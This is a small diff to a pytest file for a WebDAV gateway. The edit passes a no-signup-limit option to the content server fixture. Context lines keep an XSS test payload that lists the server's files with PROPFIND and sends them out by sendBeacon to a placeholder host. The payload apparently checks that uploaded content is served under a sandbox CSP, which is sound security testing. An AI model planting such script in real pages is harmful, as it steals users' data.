@@ -17,7 +17,7 @@ import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "webdav"))
 from davtest import GatewayProcess, href, put, signup  # noqa: E402
-from serverproc import ServerProcess  # noqa: E402
+from serverproc import NO_SIGNUP_LIMIT, ServerProcess  # noqa: E402
 
 SCRIPT = b"<script>fetch('/', {method: 'PROPFIND'}).then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
 FILE_CSP = "sandbox; default-src 'none'"
@@ -45,7 +45,7 @@ PLANTED = {
 
 @pytest.fixture(scope="module")
 def content_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
-    server = ServerProcess(tmp_path_factory.mktemp("content-server") / "data")
+    server = ServerProcess(tmp_path_factory.mktemp("content-server") / "data", extra_args=NO_SIGNUP_LIMIT)
     try:
         yield server
     finally:
